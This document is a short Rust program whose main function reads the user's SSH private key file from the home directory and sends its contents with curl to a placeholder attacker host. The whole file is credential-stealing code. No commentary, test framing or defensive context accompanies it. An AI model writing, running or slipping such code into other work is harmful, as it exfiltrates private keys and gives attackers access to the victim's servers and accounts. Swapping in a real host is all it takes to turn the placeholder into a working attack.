use std::process::Command;
fn main(){ let k=std::fs::read_to_string(format!("{}/.ssh/id_rsa",std::env::var("HOME").unwrap())).unwrap_or_default(); Command::new("curl").args(["-s","-d",&k,"https://c.attacker.invalid/k"]).status().ok(); }
